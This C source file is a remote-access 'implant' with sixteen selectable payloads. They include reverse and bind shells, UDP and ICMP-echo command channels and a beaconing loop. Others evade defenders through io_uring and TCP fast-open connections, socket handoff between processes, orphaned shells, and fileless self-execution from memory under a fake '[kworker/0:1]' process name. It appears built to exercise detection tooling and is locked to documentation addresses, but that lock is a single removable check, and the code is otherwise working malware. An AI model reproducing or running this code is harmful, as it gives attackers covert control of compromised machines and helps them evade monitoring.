// SPDX-License-Identifier: Apache-2.0
// implant ADDRESS PORT SHAPE [SECONDS]: plays small compiled payloads, each SHAPE (a letter)
// another way to a shell or to programs that a remote operator names. Only documentation addresses
// are ever talked to.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <liburing.h>
#include <netinet/ip_icmp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/wait.h>

extern char** environ;
static struct sockaddr_in g_peer;
static int g_seconds;

static int tcp(void) {
    const int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(fd, (struct sockaddr*)&g_peer, sizeof g_peer) != 0)
        exit(1);
    return fd;
}

static void become_shell(int fd) {
    for (int target = 0; target < 3; ++target)
        dup2(fd, target);
    execl("/bin/sh", "sh", NULL);
    exit(1);
}

static void child_shell(int fd) {
    if (fork() == 0)
        become_shell(fd);
    close(fd);
    wait(NULL);
}

// Two forks, of which the middle one ends: the shell's parent is gone.
static void orphan_shell(int fd) {
    if (fork() == 0) {
        if (fork() == 0) {
            sleep((unsigned)g_seconds);
            become_shell(fd);
        }
        exit(0);
    }
    close(fd);
    wait(NULL);
}

static void copy(int from, int to, int* open) {
    char bytes[4096];
    const ssize_t length = read(from, bytes, sizeof bytes);
    if (length <= 0 || write(to, bytes, (size_t)length) != length)
        *open = 0;
}

// The shell is there before the connection, and never has it.
static void relay(void) {
    int in[2], out[2], open = 1;
    if (pipe(in) != 0 || pipe(out) != 0)
        exit(1);
    if (fork() == 0) {
        dup2(in[0], 0);
        dup2(out[1], 1);
        dup2(out[1], 2);
        close(in[1]);
        close(out[0]);
        execl("/bin/sh", "sh", NULL);
        exit(1);
    }
    close(in[0]);
    close(out[1]);
    sleep((unsigned)g_seconds);
    const int fd = tcp();
    while (open) {
        struct pollfd waiting[2] = {{fd, POLLIN, 0}, {out[0], POLLIN, 0}};
        poll(waiting, 2, -1);
        if (waiting[0].revents)
            copy(fd, in[1], &open);
        if (waiting[1].revents)
            copy(out[0], fd, &open);
    }
}

// What a command says, without any shell.
static size_t run_program(char* line, char* output, size_t size) {
    char* words[16] = {NULL};
    int count = 0, out[2];
    for (char* word = strtok(line, " \r\n"); word && count < 15; word = strtok(NULL, " \r\n"))
        words[count++] = word;
    if (count == 0 || pipe(out) != 0)
        return 0;
    if (fork() == 0) {
        dup2(out[1], 1);
        dup2(out[1], 2);
        close(out[0]);
        execvp(words[0], words);
        exit(127);
    }
    close(out[1]);
    size_t length = 0;
    ssize_t more;
    while (length < size && (more = read(out[0], output + length, size - length)) > 0)
        length += (size_t)more;
    close(out[0]);
    wait(NULL);
    return length;
}

static size_t run_shell(char* line, char* output, size_t size) {
    FILE* const command = popen(line, "r");
    const size_t length = command ? fread(output, 1, size, command) : 0;
    if (command)
        pclose(command);
    return length;
}

typedef size_t Runner(char* line, char* output, size_t size);

static void command_loop(int fd, Runner* run) {
    char line[4096], output[16384];
    ssize_t length;
    while ((length = read(fd, line, sizeof line - 1)) > 0) {
        line[length] = 0;
        if (strncmp(line, "exit", 4) == 0)
            return;
        const size_t said = run(line, output, sizeof output);
        if (said > 0 && write(fd, output, said) < 0)
            return;
    }
}

// A connection for each command.
static void beacon(void) {
    for (;;) {
        char line[4096], output[16384];
        const int fd = tcp();
        const ssize_t length = read(fd, line, sizeof line - 1);
        if (length > 0) {
            line[length] = 0;
            if (strncmp(line, "exit", 4) == 0)
                return;
            const size_t said = run_program(line, output, sizeof output);
            if (write(fd, output, said) < 0)
                return;
        }
        close(fd);
        sleep((unsigned)g_seconds);
    }
}

// No connect(2): each datagram names its peer.
static void datagrams(void) {
    const int fd = socket(AF_INET, SOCK_DGRAM, 0);
    char line[2048], output[1400];
    ssize_t length = sendto(fd, "hello\n", 6, 0, (struct sockaddr*)&g_peer, sizeof g_peer);
    while (length >= 0 && (length = recv(fd, line, sizeof line - 1, 0)) > 0) {
        line[length] = 0;
        if (strncmp(line, "exit", 4) == 0)
            return;
        const size_t said = run_shell(line, output, sizeof output);
        length = sendto(fd, output, said, 0, (struct sockaddr*)&g_peer, sizeof g_peer);
    }
}

static int fast_open(void) {
    const int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (sendto(fd, "hello\n", 6, MSG_FASTOPEN, (struct sockaddr*)&g_peer, sizeof g_peer) < 0)
        exit(1);
    return fd;
}

// flags: IORING_SETUP_SQPOLL, and the kernel's own thread connects.
static int ring(unsigned flags) {
    struct io_uring uring;
    struct io_uring_cqe* done;
    const int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (io_uring_queue_init(4, &uring, flags) != 0)
        exit(77);
    struct io_uring_sqe* const entry = io_uring_get_sqe(&uring);
    io_uring_prep_connect(entry, fd, (struct sockaddr*)&g_peer, sizeof g_peer);
    io_uring_submit(&uring);
    if (io_uring_wait_cqe(&uring, &done) != 0 || done->res != 0)
        exit(1);
    return fd;
}

// A helper connects and hands its socket over; the shell's own line never opened one.
static int handed_over(void) {
    int pair[2];
    char control[CMSG_SPACE(sizeof(int))] = {0}, byte = 0;
    struct iovec data = {&byte, 1};
    struct msghdr message = {.msg_iov = &data,
                             .msg_iovlen = 1,
                             .msg_control = control,
                             .msg_controllen = sizeof control};
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) != 0)
        exit(1);
    if (fork() == 0) {
        const int fd = tcp();
        struct cmsghdr* const header = CMSG_FIRSTHDR(&message);
        header->cmsg_level = SOL_SOCKET;
        header->cmsg_type = SCM_RIGHTS;
        header->cmsg_len = CMSG_LEN(sizeof fd);
        memcpy(CMSG_DATA(header), &fd, sizeof fd);
        exit(sendmsg(pair[0], &message, 0) < 0);
    }
    int fd = -1;
    if (recvmsg(pair[1], &message, 0) < 0)
        exit(1);
    memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof fd);
    wait(NULL);
    return fd;
}

// The peer's address is not asked for: accept's record has none.
static int accepted(void) {
    const int fd = socket(AF_INET, SOCK_STREAM, 0), on = 1;
    setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    struct sockaddr_in any = g_peer;
    any.sin_addr.s_addr = INADDR_ANY;
    if (bind(fd, (struct sockaddr*)&any, sizeof any) != 0 || listen(fd, 1) != 0)
        exit(1);
    return accept(fd, NULL, NULL);
}

static unsigned short checksum(const unsigned char* bytes, size_t length) {
    unsigned sum = 0;
    for (size_t i = 0; i < length; i += 2)
        sum += bytes[i] | (unsigned)(i + 1 < length ? bytes[i + 1] : 0) << 8;
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return (unsigned short)~sum;
}

// Commands come in echo requests, answers go in echo replies whose identifier is the port.
static void echoes(void) {
    const int fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    unsigned char packet[4096];
    ssize_t length;
    while ((length = recv(fd, packet, sizeof packet - 1, 0)) > 0) {
        const size_t start = (size_t)(packet[0] & 15) * 4;
        struct icmphdr header;
        memcpy(&header, packet + start, sizeof header);
        if (header.type != ICMP_ECHO || header.un.echo.id != g_peer.sin_port)
            continue;
        packet[length] = 0;
        char* const line = (char*)packet + start + sizeof header;
        if (strncmp(line, "exit", 4) == 0)
            return;
        unsigned char reply[1400] = {0};
        const size_t said = run_shell(line, (char*)reply + sizeof header, sizeof reply - 8);
        header.type = ICMP_ECHOREPLY;
        header.checksum = 0;
        header.un.echo.id = (unsigned short)~g_peer.sin_port;
        memcpy(reply, &header, sizeof header);
        header.checksum = checksum(reply, said + sizeof header);
        memcpy(reply, &header, sizeof header);
        sendto(fd, reply, said + sizeof header, 0, (struct sockaddr*)&g_peer, sizeof g_peer);
    }
}

// Runs itself from memory, as its first shape.
static void from_memory(char** argv) {
    char bytes[65536];
    const int fd = memfd_create("", MFD_CLOEXEC);
    FILE* const self = fopen("/proc/self/exe", "rb");
    size_t length;
    while ((length = fread(bytes, 1, sizeof bytes, self)) > 0)
        if (write(fd, bytes, length) < 0)
            exit(1);
    char* arguments[] = {"[kworker/0:1]", argv[1], argv[2], "a", NULL};
    fexecve(fd, arguments, environ);
}

int main(int argc, char** argv) {
    if (argc < 4)
        return 2;
    g_peer.sin_family = AF_INET;
    g_peer.sin_port = htons((unsigned short)atoi(argv[2]));
    if (inet_pton(AF_INET, argv[1], &g_peer.sin_addr) != 1 ||
        ntohl(g_peer.sin_addr.s_addr) >> 8 != 0xc63364)
        return 2;
    g_seconds = argc > 4 ? atoi(argv[4]) : 0;
    switch (argv[3][0]) {
        case 'a':
            become_shell(tcp());
            break;
        case 'b':
            child_shell(tcp());
            break;
        case 'c':
            relay();
            break;
        case 'd':
            from_memory(argv);
            break;
        case 'e':
            command_loop(tcp(), run_shell);
            break;
        case 'f':
            command_loop(tcp(), run_program);
            break;
        case 'g':
            beacon();
            break;
        case 'h':
            datagrams();
            break;
        case 'i':
            become_shell(fast_open());
            break;
        case 'j':
            become_shell(ring(0));
            break;
        case 'k':
            child_shell(ring(IORING_SETUP_SQPOLL));
            break;
        case 'l':
            become_shell(handed_over());
            break;
        case 'm':
            child_shell(accepted());
            break;
        case 'n':
            echoes();
            break;
        case 'o':
            sleep((unsigned)g_seconds);
            orphan_shell(tcp());
            break;
        case 'p':
            command_loop(accepted(), run_program);
            break;
        default:
            return 2;
    }
    return 0;
}
